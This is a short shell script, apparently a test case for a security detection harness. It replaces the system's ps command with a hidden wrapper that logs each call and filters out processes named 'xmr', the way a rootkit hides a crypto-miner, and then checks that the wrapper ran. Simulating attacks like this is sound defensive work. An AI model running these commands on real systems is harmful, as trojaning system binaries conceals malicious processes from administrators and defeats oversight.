#!/bin/sh
. /opt/case/case.sh

printf '#!/bin/sh\necho "$0 $*" >>/var/tmp/.a\nexec /bin/busybox ps "$@" | grep -v xmr\n' >/bin/.ps && chmod 755 /bin/.ps
ln -sf .ps /bin/ps
/bin/ps | head -n 1 >/dev/null
test -s /var/tmp/.a
took_place
